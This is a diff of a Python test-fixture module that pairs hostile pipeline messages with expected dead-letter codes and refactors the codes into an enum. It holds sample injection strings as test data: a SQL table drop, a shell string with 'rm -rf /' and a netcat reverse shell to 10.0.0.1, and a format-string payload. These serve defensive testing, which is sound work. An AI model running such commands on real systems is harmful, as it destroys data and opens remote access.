@@ -1,27 +1,30 @@
-"""One hostile message and the dead-letter code it must get (events.md "Outputs")."""
+"""One hostile message and the dead-letter code it must get (docs/events.md s8.2, s9)."""
 
 from __future__ import annotations
 
 from dataclasses import dataclass
+from typing import Any
+
+from models.codes import DeadLetterCode
+from tests.hostile.baseline import KEY_FIELDS, encode
 
 SQL = "x'; DROP TABLE ledger_transactions; --"
 SHELL = "$(rm -rf /) `reboot` | nc -e /bin/sh 10.0.0.1 4444 & ;"
 FORMAT = "%s%s%s%n %(x)s {0} {__class__}"
 
+#: Every dead-letter code of docs/events.md s9: the corpus must show each one.
+CODES = frozenset(DeadLetterCode)
+#: The codes ``models.decode`` can give from one message alone (models/codes.py).
+DECODED = frozenset({
+    DeadLetterCode.MALFORMED_JSON, DeadLetterCode.SCHEMA_VIOLATION,
+    DeadLetterCode.UNKNOWN_EVENT_TYPE, DeadLetterCode.UNSUPPORTED_SCHEMA_VERSION,
+    DeadLetterCode.MESSAGE_TOO_LARGE, DeadLetterCode.INVALID_VALUE,
+    DeadLetterCode.VALUE_OUT_OF_RANGE, DeadLetterCode.MISSING_CONDITION,
+    DeadLetterCode.MISSING_INDICATOR, DeadLetterCode.UNKNOWN_CONDITION,
+    DeadLetterCode.UNKNOWN_INDICATOR, DeadLetterCode.UNKNOWN_WINDOW})
 #: The codes that need state: ``models.decode`` accepts such a message, the pipeline
-#: refuses it (events.md; streams/effects.py).
-STATEFUL = frozenset({"unknown_cycle", "unknown_commune", "stale_revision",
-                      "conflicting_revision", "cycle_not_open", "cycle_not_closed",
-                      "exceeds_outstanding", "cycle_closed", "cycle_not_notified",
-                      "complaint_late", "complaints_open", "complaint_window_open",
-                      "unknown_complaint", "paid_before_approval", "inputs_changed"})
-#: Every dead-letter code of events.md.
-CODES = frozenset({
-    "malformed_json", "schema_violation", "unknown_event_type", "unsupported_schema_version",
-    "message_too_large", "unknown_cycle", "unknown_commune", "unknown_window",
-    "missing_condition", "missing_indicator", "unknown_condition", "unknown_indicator",
-    "invalid_value", "value_out_of_range", "stale_revision", "conflicting_revision",
-    "cycle_not_open", "cycle_not_closed", "exceeds_outstanding", "cycle_closed"})
+#: refuses it (docs/events.md s10; streams/).
+STATEFUL = CODES - DECODED
 
 
 @dataclass(frozen=True)
@@ -35,3 +38,28 @@ class Hostile:
     code: str
     #: a known disagreement with ``code`` (decode or pipeline): reported, not hidden
     issue: str | None = None
+    #: a code of :data:`DECODED` that only the state can decide here: a date out of order
+    #: with another event's (``invalid_value``), a complaint subject that is not one of
+    #: the commune's window (``unknown_indicator``, ``unknown_condition``)
+    against_state: bool = False
+
+    @property
+    def stateful(self) -> bool:
+        """Decode accepts it; the pipeline refuses it."""
+        return self.code in STATEFUL or self.against_state
+
+
+def one(name: str, topic: str, body: Any, code: str, issue: str | None = None,
+        against_state: bool = False) -> Hostile:
+    """An entry keyed as its topic keys (raw bytes: a placeholder key)."""
+    value = body if isinstance(body, bytes) else encode(body)
+    key = b"hostile" if isinstance(body, bytes) else str(
+        body.get(KEY_FIELDS[topic], "hostile")).encode("utf-8", "surrogatepass")
+    return Hostile(f"{topic}: {name}", topic, key, value, code, issue, against_state)
+
+
+def replaced(body: dict[str, Any], old: str, new: str) -> bytes:
+    """The encoded body with one literal spelling replaced (numbers json cannot write)."""
+    text = encode(body).decode("utf-8")
+    assert old in text, (old, text)
+    return text.replace(old, new, 1).encode("utf-8")
